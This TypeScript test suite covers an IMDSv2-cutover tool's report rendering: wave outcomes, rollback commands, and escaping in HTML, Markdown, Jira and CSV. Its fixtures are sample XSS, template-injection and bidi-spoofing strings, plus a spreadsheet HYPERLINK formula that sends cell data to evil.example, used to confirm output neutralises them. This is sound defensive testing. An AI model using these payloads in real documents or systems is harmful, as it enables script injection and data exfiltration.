import { createHash } from 'node:crypto';
import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { Policy, parseJournalText, plan, summarizeJournal } from '@imdsv2-cutover/core';
import { generateFleet, makeAssessment, makeInstance } from '@imdsv2-cutover/test-utils';
import { HOSTILE, demoFleet, journalText, planFor } from './__fixtures__/fleet.js';
import {
  CSV_COLUMNS,
  buildReportModel,
  jira,
  jsonForScript,
  md,
  mdRich,
  readableTimes,
  renderCsv,
  renderHtml,
  renderMarkdown,
  renderReports,
} from './index.js';

const opts = { generatedAt: '2026-11-21T09:00:00.000Z', toolVersion: '0.1.0' };

function model(hostile = false, extra: Partial<Parameters<typeof buildReportModel>[1]> = {}) {
  const f = demoFleet({ hostile });
  return buildReportModel({ assessment: f.assessment, plan: f.plan, journal: f.journalSummary }, { ...opts, ...extra });
}

describe('buildReportModel', () => {
  it('counts readiness, groups blockers by culprit with fixes and owners, and dates the waves', () => {
    const m = model(false, { startDate: '2026-12-01' });
    const total = m.summary.byStatus.reduce((s, c) => s + c.count, 0);
    expect(total).toBe(40);
    const boto = m.blockers.find((b) => b.culprit === 'botocore 1.12.0')!;
    expect(boto.kind).toBe('package');
    expect(boto.remediations).toEqual(['upgrade botocore to 1.13.25 or later']);
    expect(boto.owners.length).toBeGreaterThan(0);
    expect(m.blockers.some((b) => b.kind === 'unidentified' && b.detail === 'probe: not-managed')).toBe(true);
    expect(m.waves[0]).toMatchObject({ start: '2026-12-01 00:00', end: '2026-12-02 00:00', soak: '1d' });
    expect(m.waves[1]!.start).toBe('2026-12-02 00:00');
    expect(m.launchers.map((l) => l.kind)).toEqual(['Auto Scaling group', 'Launch template']);
    expect(m.rollback.commands.map((c) => c.command)).toContain('imdsv2 rollback --journal journal.jsonl --all');
    // Wave 1's guard rolled back the whole wave: every instance says so, the one the guard named says why.
    expect(m.journal?.waves.map((w) => [w.wave, w.state, w.outcome, w.counts.kept, w.counts.rolledBack])).toEqual([
      ['0', 'completed', 'completed', 2, 0],
      ['1', 'rolled-back', 'rolled back', 0, 4],
    ]);
    const caught = m.journal!.waves[1]!.caught;
    expect(caught).toHaveLength(1);
    expect(caught[0]!.outcome.label).toBe('rolled back by the guard');
    expect(caught[0]!.guardCalls).toBe(7);
    expect(m.rows.filter((r) => r.execution === 'rolled back by the guard')).toHaveLength(1);
    expect(m.rows.filter((r) => r.execution === 'rolled back')).toHaveLength(3);
    expect(m.rows.filter((r) => r.execution === 'kept IMDSv2')).toHaveLength(2);
    expect(m.rows.filter((r) => r.journalState === 'rolled-back')).toHaveLength(4);
    // The overview answers in order: what changes, what happened (with the caught instance), risks, rollback.
    expect(m.overview.change).toMatch(
      /^Sets HttpTokens=required \(IMDSv2 only\) on \d+ instances of 40 in \d+ waves from 2026-12-01 00:00 to/,
    );
    expect(m.overview.happenedItems[1]).toContain(`The guard caught \`${caught[0]!.instanceId}\``);
    expect(m.overview.happenedItems[1]).toContain('making 7 rejected IMDSv1 call(s); caller: ');
    expect(m.overview.risks.map((r) => r.kind)).toEqual(['data', 'blocked', 'unknown', 'launcher']);
    expect(m.overview.risks[1]!.owners.length).toBeGreaterThan(0);
    expect(m.overview.rollback.command).toBe('imdsv2 rollback --journal journal.jsonl --wave 1');
  });

  it('tells a wave whose guard rolled back one canary as partly rolled back, and that canary as rolled back', () => {
    const f = demoFleet();
    const w1 = f.plan.waves[1]!.instances.map((e) => e.instanceId);
    // Keep only the rollback of the instance the guard named: the others keep IMDSv2.
    const lines = f.journal.filter(
      (l) =>
        !(
          'action' in l &&
          l.action === 'rollback' &&
          'target' in l &&
          l.target.kind === 'instance' &&
          l.target.instanceId !== w1[0]
        ),
    );
    const journal = summarizeJournal(parseJournalText(journalText(lines), 'j.jsonl'), f.plan);
    const m = buildReportModel({ assessment: f.assessment, plan: f.plan, journal }, opts);
    const wave = m.journal!.waves[1]!;
    expect(wave.outcome).toBe('partly rolled back');
    expect(wave.now).toBe(`${w1.length - 1} kept IMDSv2, 1 rolled back (of ${w1.length}).`);
    expect(wave.exceptions.map((e) => [e.instanceId, e.outcome.kind])).toEqual([[w1[0], 'rolled-back']]);
    const row = m.rows.find((r) => r.instanceId === w1[0])!;
    expect([row.status, row.execution]).toEqual(['ready', 'rolled back by the guard']);
    expect(renderHtml(m)).toMatch(
      /<span class="st st-ready">ready<\/span> → <span class="ex ex-rolled-back">rolled back by the guard<\/span>/,
    );
  });

  it('groups held instances by reason, leaves the enforced ones out of "held", and writes times for people', () => {
    const m = model();
    const f = demoFleet();
    const enforced = f.plan.held.filter((h) => h.status === 'enforced').length;
    expect(enforced).toBeGreaterThan(0);
    expect(m.notNeeded.enforced).toBe(enforced);
    expect(m.heldCount).toBe(f.plan.held.length - enforced);
    expect(m.held.reduce((n, g) => n + g.count, 0)).toBe(m.heldCount);
    expect(m.held.flatMap((g) => g.instances).some((h) => h.status === 'enforced')).toBe(false);
    expect(m.held.map((g) => g.count)).toEqual([...m.held.map((g) => g.count)].sort((a, b) => b - a));
    expect(m.held.every((g) => g.title !== '' && !g.instances.some((h) => /\dT\d\d:\d\d/.test(h.reasons)))).toBe(true);
    expect(readableTimes('the last at 2025-06-30T04:00:00.000Z.')).toBe('the last at 2025-06-30 04:00 UTC.');
    expect(m.summary.headline).toContain(`${m.heldCount} instance(s) are held back`);
  });

  it('marks an assessment from an endpoint or the bundled simulator, and puts the endpoint in every command', () => {
    const f = demoFleet();
    const viaEndpoint = { ...f.assessment, scope: { ...f.assessment.scope, endpointUrl: 'http://127.0.0.1:4566' } };
    const a = buildReportModel({ assessment: viaEndpoint, plan: f.plan }, opts);
    expect(a.source.simulated).toBe(true);
    expect(a.source.label).toMatch(/^SIMULATED OR TEST ENDPOINT: .* against http:\/\/127\.0\.0\.1:4566, not AWS/);
    for (const c of a.rollback.commands) expect(c.command).toMatch(/ --endpoint-url http:\/\/127\.0\.0\.1:4566$/);
    const sim = { ...viaEndpoint, scope: { ...viaEndpoint.scope, simulator: { scenario: 'demo' } } };
    const b = buildReportModel({ assessment: sim, plan: f.plan }, opts);
    expect(b.source.label).toMatch(
      /^SIMULATED: this assessment comes from the bundled fleet simulator \(scenario "demo"/,
    );
    expect(b.rollback.notes.join(' ')).toMatch(/stops its simulator/);
    const html = renderHtml(b);
    expect(html).toContain('<p class="sim" id="simulated" role="note">');
    expect(html).toContain('(simulated clock)');
    expect(renderMarkdown(b)).toContain('**SIMULATED: this assessment comes from the bundled fleet simulator');
    const aws = buildReportModel({ assessment: f.assessment, plan: f.plan }, opts);
    expect(aws.source).toEqual({ simulated: false, label: '', endpointUrl: '' });
    expect(aws.rollback.commands.every((c) => !c.command.includes('--endpoint-url'))).toBe(true);
    expect(renderHtml(aws)).not.toContain('id="simulated"');
  });

  it('is deterministic and keeps unknown metric data apart from zero', () => {
    expect(JSON.stringify(model())).toBe(JSON.stringify(model()));
    const unknown = model().rows.find((r) => r.status === 'unknown')!;
    expect(unknown.imdsv1Calls).toBeNull();
  });

  it('warns loudly about incomplete data and a plan made from another assessment', () => {
    const a = makeAssessment([makeInstance()], {
      complete: false,
      regions: [
        {
          accountId: '111111111111',
          region: 'us-east-1',
          status: 'failed',
          error: { code: 'AccessDenied', message: 'no access' },
          accountDefaults: null,
        },
      ],
    });
    const other = planFor(makeAssessment([makeInstance(), makeInstance({ instanceId: 'i-0000000000000002' })]));
    const m = buildReportModel({ assessment: a, plan: other }, opts);
    expect(m.warnings.join('\n')).toMatch(/INCOMPLETE/);
    expect(m.warnings.join('\n')).toMatch(/us-east-1 is failed: no access/);
    expect(m.warnings.join('\n')).toMatch(/different assessment/);
  });

  it('checks a plan bound to the assessment file by the sha256 of that file, and shows that sha256', () => {
    const a = makeAssessment([makeInstance()]);
    const fileSha = 'f'.repeat(64);
    const bound = {
      ...planFor(a),
      assessment: { id: a.id, createdAt: a.createdAt, sha256: fileSha, sha256Of: 'file' as const },
    };
    const same = buildReportModel({ assessment: a, plan: bound, assessmentFileSha256: fileSha }, opts);
    expect(same.plan?.matchesAssessment).toBe(true);
    expect(same.assessment.sha256).toBe(fileSha);
    expect(same.warnings.join('\n')).not.toMatch(/different assessment/);
    // The same content in a file with other bytes (edited, re-serialised): not the file the plan was made from.
    const edited = buildReportModel({ assessment: a, plan: bound, assessmentFileSha256: 'e'.repeat(64) }, opts);
    expect(edited.plan?.matchesAssessment).toBe(false);
    expect(edited.warnings.join('\n')).toMatch(/different assessment/);
    // A plan of the older kind (bound to the canonical content) is still checked by content.
    const legacy = buildReportModel({ assessment: a, plan: planFor(a), assessmentFileSha256: fileSha }, opts);
    expect(legacy.plan?.matchesAssessment).toBe(true);
  });

  it('renders without a plan or journal', () => {
    const m = buildReportModel({ assessment: generateFleet({ count: 30 }) }, opts);
    const r = renderReports(m);
    expect(r.html).toContain('No plan given');
    expect(r.md).toContain('No plan given');
    expect(r.csv?.split('\r\n').length).toBe(32);
  });

  it('shows the enforced-share trend only when at least two runs are known', () => {
    const a = generateFleet({ count: 30 });
    const runs = [
      { id: 'r1', createdAt: '2026-11-01T00:00:00.000Z', complete: true, enforced: 3, eligible: 30, sharePercent: 10 },
      { id: 'r2', createdAt: '2026-11-08T00:00:00.000Z', complete: false, enforced: 0, eligible: 30, sharePercent: 0 },
      { id: 'r3', createdAt: '2026-11-15T00:00:00.000Z', complete: true, enforced: 15, eligible: 30, sharePercent: 50 },
    ];
    const one = renderReports(buildReportModel({ assessment: a, trend: runs.slice(0, 1) }, opts));
    expect(one.html).not.toContain('id="trend"');
    const r = renderReports(buildReportModel({ assessment: a, trend: runs }, opts));
    expect(r.html).toContain('id="trend"');
    expect(r.html).toMatch(/<td class="n" data-label="Share">0%<\/td><td data-label="Complete">no<\/td>/);
    expect(r.html).toContain('from 2026-11-01 (10%) to 2026-11-15 (50%), 3 runs');
    expect(r.md).toContain('| 2026-11-15 00:00 UTC | 15 | 30 | 50% | yes |');
  });
});

describe('lock-in launch sources', () => {
  /** The demo fleet with a launch-configuration group, a mixed instances group and an image another account owns. */
  function withLaunchSources(name: string) {
    const f = demoFleet();
    const a = structuredClone(f.assessment);
    const g = a.autoScalingGroups[0]!;
    a.autoScalingGroups.push(
      {
        ...g,
        name: `${name}-lc`,
        launchTemplate: undefined,
        launchConfigurationName: `${name}-config`,
        launchConfigurationOptions: { httpTokens: 'optional' },
        effective: null,
      },
      {
        ...g,
        name: `${name}-mixed`,
        overrideLaunchTemplates: [
          { launchTemplateId: 'lt-0mixed', name: 'other-lt', version: '$Latest', launchesImdsV1: true },
        ],
      },
    );
    a.images.push({
      accountId: '111111111111',
      region: 'us-east-1',
      imageId: 'ami-0f00f00f00f00f001',
      name,
      imdsSupport: null,
      ownerId: '444444444444',
      ownerAlias: 'amazon',
      public: true,
    });
    const p = plan(
      a,
      Policy.parse({ schema: { name: 'imdsv2-cutover/policy', version: 1 }, lockIn: { amiImdsSupport: true } }),
    );
    return buildReportModel({ assessment: a, plan: p }, opts);
  }

  it('says what each group launches, and lists the manual work with the image owner', () => {
    const m = withLaunchSources('batch');
    const byName = Object.fromEntries(m.launchers.map((l) => [l.name, l]));
    expect(byName['batch-lc']).toMatchObject({
      id: 'batch-config',
      source: 'launch configuration, HttpTokens optional',
      note: 'uses a launch configuration: lock-in moves it to a launch template made from it',
    });
    expect(byName['batch-mixed']!.id).toMatch(
      /^mixed instances policy: .* \(\$Default\); overrides: other-lt \(\$Latest\)$/,
    );
    const lc = m.lockIn.find((s) => s.kind === 'launch-configuration-migration')!;
    expect(lc.notes.some((n) => n.includes('never measured'))).toBe(true);
    const ami = m.manualLockIn.find((x) => x.kind === 'ami-not-owned')!;
    expect(ami).toMatchObject({ resourceId: 'ami-0f00f00f00f00f001', owner: '444444444444 (amazon)' });
    const md = renderMarkdown(m);
    expect(md).toContain('### Lock-in to do by hand');
    expect(md).toMatch(
      /\| ami-not-owned \| 111111111111 \/ us-east-1 \| ami-0f00f00f00f00f001 \| 444444444444 \(amazon\) \|/,
    );
    expect(renderHtml(m)).toContain('Lock-in to do by hand');
  });

  it('escapes hostile names in the notes and the manual work', () => {
    const html = renderHtml(withLaunchSources(HOSTILE[0]));
    expect(html).not.toContain('<script>window.__pwned');
    expect(html).toContain('&lt;script&gt;window.__pwned&#x3D;1&lt;/script&gt;-config');
  });
});

describe('renderHtml', () => {
  const html = renderHtml(model(true));

  it('allows exactly its own inline style and script by hash, and nothing else', () => {
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)![1]!;
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)![1]!;
    const script = /<script>([\s\S]*?)<\/script>/.exec(html)![1]!;
    const h = (t: string) => `'sha256-${createHash('sha256').update(t).digest('base64')}'`;
    expect(csp).toBe(
      `default-src 'none'; style-src ${h(style)}; script-src ${h(script)}; img-src data:; base-uri 'none'; form-action 'none'`,
    );
    expect(html.match(/<script\b/g)).toHaveLength(2); // the JSON data block and the one inline script
    // Outside the JSON data block (where text is inert) no attribute could load or run anything.
    const markup = html.slice(0, html.indexOf('<script type="application/json"'));
    expect(markup).not.toMatch(/\sstyle=|\son\w+=|\shref="(?!#)|\ssrc=/i);
  });

  it('escapes every hostile string and neutralises bidi overrides', () => {
    for (const s of HOSTILE) {
      if (/[<>"]/.test(s)) expect(html).not.toContain(s);
    }
    expect(html).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(html).toContain('safe\\u202egnp.exe\\u202c name');
    expect(html).toContain('&lt;script&gt;window.__pwned&#x3D;1&lt;/script&gt;');
    expect(html).toContain('{{constructor.constructor(&quot;window.__pwned&#x3D;1&quot;)()}}');
  });

  it('embeds the instance data compressed, in JSON that cannot close its script element', () => {
    const data = /<script type="application\/json" id="instance-data">([\s\S]*?)<\/script>/.exec(html)![1]!;
    expect(data).not.toMatch(/[<>&\u2028\u2029]/);
    const parsed = JSON.parse(data) as { encoding: string; count: number; rows: string };
    expect(parsed.encoding).toBe('gzip-base64');
    const rows = JSON.parse(gunzipSync(Buffer.from(parsed.rows, 'base64')).toString('utf8')) as unknown[][];
    expect(rows).toHaveLength(40);
    expect(parsed.count).toBe(40);
    expect(rows.flat()).toContain('<script>window.__pwned=1</script>');
    expect(jsonForScript({ a: '</script>\u2028&' })).toBe('{"a":"\\u003c/script\\u003e\\u2028\\u0026"}');
  });

  it('renders at most the inline row limit as HTML rows and says where the rest is', () => {
    const big = buildReportModel({ assessment: generateFleet({ count: 300 }) }, opts);
    const out = renderHtml(big, { inlineRows: 100 });
    const tbody = /<table id="instances"[^>]*>[\s\S]*?<tbody>([\s\S]*?)<\/tbody>/.exec(out)![1]!;
    expect(tbody.match(/<tr>/g)).toHaveLength(100);
    expect(out).toContain('The first 100 of 300 instances');
    expect(out).toContain('Appendix: all 300 instances');
  });

  it('heads the account and region table with one "Enforced" count and an "Enforced share"', () => {
    const head = /<section id="locations"[\s\S]*?<thead>([\s\S]*?)<\/thead>/.exec(html)![1]!;
    expect(head.match(/>Enforced</g)).toHaveLength(1);
    expect(head).toContain('>Enforced share<');
  });

  it('puts the overview first and the execution section above the held instances', () => {
    const order = ['id="overview"', 'id="execution"', 'id="summary"', 'id="waves"', 'id="held"', 'id="appendix"'];
    const at = order.map((x) => html.indexOf(x));
    expect(at.every((x) => x > 0)).toBe(true);
    expect([...at].sort((a, b) => a - b)).toEqual(at);
  });
});

describe('renderMarkdown', () => {
  const hostile = renderMarkdown(model(true));
  const clean = renderMarkdown(model());

  /** Cells of a GitHub table row: split on pipes not escaped by a backslash. */
  const cells = (row: string) => row.split(/(?<!\\)\|/).length - 2;

  it('escapes HTML and Markdown in untrusted strings so tables keep their shape (GitHub)', () => {
    expect(hostile).not.toMatch(/<script|<img|<svg|<\/script|<b>/i);
    expect(hostile).not.toMatch(/(?<!\\)\]\(/); // no link or image can form
    expect(hostile).not.toMatch(/[\u202a-\u202e]/);
    const lines = hostile.split('\n');
    for (let k = 0; k < lines.length; k++) {
      if (!lines[k]!.startsWith('| ---') && !lines[k]!.startsWith('| ---:')) continue;
      const width = cells(lines[k]!);
      for (let j = k + 1; lines[j]?.startsWith('|'); j++) expect(cells(lines[j]!), lines[j]).toBe(width);
    }
  });

  it("pastes cleanly: no backslash before a percentage, a bracket or a colon in the tool's own sentences", () => {
    expect(clean).not.toMatch(/\\\d/);
    expect(clean).not.toContain('\\(');
    expect(clean).toMatch(
      /^\d+(\.\d)?% of 40 instances already require IMDSv2; \d+ more \(\d+(\.\d)?%\) can be enforced now/m,
    );
    expect(clean).toContain('## What this change does');
    expect(clean.indexOf('## What already happened')).toBeLessThan(clean.indexOf('## Held instances'));
  });

  it.each([
    ['a|b*c_[d](e)`f`<g>', 'a\\|b\\*c\\_\\[d\\](e)\\`f\\`&lt;g>'],
    ['5.8% of 500 (55.2%)', '5.8% of 500 (55.2%)'],
    ['worker_main and _x_', 'worker_main and \\_x\\_'],
    ['C:\\Program Files\\x', 'C:\\Program Files\\x'],
    ['see http://evil.example and www.evil.example', 'see http\\://evil.example and www\\.evil.example'],
    ['mail ops@example.com', 'mail ops\\@example.com'],
    ['&amp; stays & text', '&amp;amp; stays & text'],
    ['\u202egnp', '\\u202egnp'],
  ])('md(%j) is %j', (input, expected) => {
    expect(md(input)).toBe(expected);
  });

  it('escapes a line start that would open a block only where the text starts a block', () => {
    expect(md('# not a heading', { start: true })).toBe('\\# not a heading');
    expect(md('1. not a list', { start: true })).toBe('1\\. not a list');
    expect(md('- x', { start: true })).toBe('\\- x');
    expect(md('- x')).toBe('- x');
    expect(mdRich('policy says `stopped: hold`.')).toBe('policy says `stopped: hold`.');
    expect(mdRich('a `x|y` b')).toBe('a x\\|y b');
  });

  it('writes Jira wiki markup that keeps hostile strings inert', () => {
    const text = renderMarkdown(model(true), { flavour: 'jira' });
    expect(text).toMatch(/^h1\. IMDSv2 cutover: change review$/m);
    expect(text).toContain('||Reason||Instances||Owners||Fix||Instances (first)||');
    // Every table row keeps its cell count: no unescaped pipe inside a cell.
    const lines = text.split('\n');
    for (let k = 0; k < lines.length; k++) {
      if (!lines[k]!.startsWith('||')) continue;
      const width = lines[k]!.split('||').length - 2;
      for (let j = k + 1; lines[j]?.startsWith('|') && !lines[j]!.startsWith('||'); j++)
        expect(lines[j]!.split(/(?<!\\)\|/).length - 2, lines[j]).toBe(width);
    }
    // Outside {noformat} blocks no unescaped macro, link or image opener is left.
    const prose = text.replace(/\{noformat\}[\s\S]*?\{noformat\}/g, '');
    const ours = prose.replace(/\{warning(:[^}]*)?\}/g, '').replace(/\{\{[^{}]*\}\}/g, '');
    expect(ours).not.toMatch(/(?<!\\)[[{!]/);
    expect(text).toContain('\\*bold\\* \\[link\\]');
  });

  it.each([
    ['us-east-1 i-0abc', 'us-east-1 i-0abc'],
    ['-2+3', '\\-2+3'],
    ['*bold* _x_ [link|http://evil] {html}', '\\*bold\\* \\_x\\_ \\[link\\|http&#58;//evil\\] \\{html\\}'],
    ['C:\\dir', 'C:&#92;dir'],
    ['!image.png!', '\\!image.png\\!'],
  ])('jira(%j) is %j', (input, expected) => {
    expect(jira(input)).toBe(expected);
  });
});

describe('renderCsv', () => {
  it('writes one row per instance, quoted per RFC 4180, with formula cells defused', () => {
    const csv = renderCsv(model(true));
    const rows = parse<string[]>(csv, { relax_column_count: false });
    expect(rows[0]).toEqual(CSV_COLUMNS);
    expect(rows).toHaveLength(41);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const names = rows.slice(1).map((r) => r[1]);
    expect(names).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(names).toContain("'-2+3");
    expect(names).toContain("'\\x09TAB");
    expect(csv).not.toMatch(/[\u202a-\u202e]/);
  });
});
